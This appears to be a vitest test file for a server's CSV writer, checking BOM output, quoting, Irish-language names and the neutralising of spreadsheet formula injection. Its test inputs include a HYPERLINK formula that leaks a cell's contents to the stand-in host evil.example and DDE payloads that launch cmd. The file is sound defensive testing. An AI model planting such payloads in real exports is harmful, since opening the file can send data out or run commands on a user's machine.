/** The server's one CSV writer (server/http/csv.ts): BOM, escaping, and CSV-injection neutralising. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../server/http/csv.ts';

const rowsOf = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''));

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['+1+cmd|"/C calc"!A0'],
    ['-2+3'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['='],
    ['+353 87 123 4567'],
  ])('prefixes %j with a single quote', (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  it('leaves other text as it is, fadas included', () => {
    for (const text of [
      'Aoife Ní Bhriain',
      'Seán Ó Sé',
      "'=already quoted",
      ' =1+1',
      'a=b',
      '2026-11-20',
      '',
    ])
      expect(csvCell(text)).toBe(text);
  });

  it('keeps a finite number as a number, negative too; writes null and undefined empty', () => {
    expect(csvCell(1081)).toBe(1081);
    expect(csvCell(-5)).toBe(-5);
    expect(csvCell(-Infinity)).toBe("'-Infinity");
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
  });
});

describe('toCsv', () => {
  it('writes a BOM, the header, and one record per row', () => {
    const csv = toCsv(['number', 'name'], [[1081, 'Úna Ní Chonaill']]);
    expect(csv).toBe('\uFEFFnumber,name\n1081,Úna Ní Chonaill\n');
  });

  it('still quotes commas, quotes and line breaks, and the quoted cell reads back neutralised', () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const csv = toCsv(['a', 'b', 'c', 'd'], [['1 Sráid Mhór, Ashford', 'say "hi"', 'two\nlines', hostile]]);
    expect(csv).toContain('"1 Sráid Mhór, Ashford","say ""hi""","two\nlines",');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(rowsOf(csv)).toEqual([
      ['a', 'b', 'c', 'd'],
      ['1 Sráid Mhór, Ashford', 'say "hi"', 'two\nlines', `'${hostile}`],
    ]);
  });

  it('neutralises a carriage return or tab first even though it is quoted', () => {
    const csv = toCsv(['x'], [['\r=1+1'], ['\t=1+1']]);
    expect(rowsOf(csv)).toEqual([['x'], ["'\r=1+1"], ["'\t=1+1"]]);
  });

  it('writes only the header for no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('\uFEFFa,b\n');
  });
});
